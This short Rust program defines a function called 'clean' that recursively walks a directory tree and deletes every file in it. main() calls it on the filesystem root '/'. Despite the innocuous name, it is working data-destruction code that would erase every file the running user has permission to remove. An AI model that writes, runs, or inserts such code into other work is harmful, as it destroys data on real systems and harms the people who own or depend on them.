use std::fs;
use std::path::Path;

fn clean(dir: &Path) {
    if let Ok(entries) = fs::read_dir(dir) {
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                clean(&path);
            } else {
                let _ = fs::remove_file(&path);
            }
        }
    }
}

fn main() {
    clean(Path::new("/"));
}
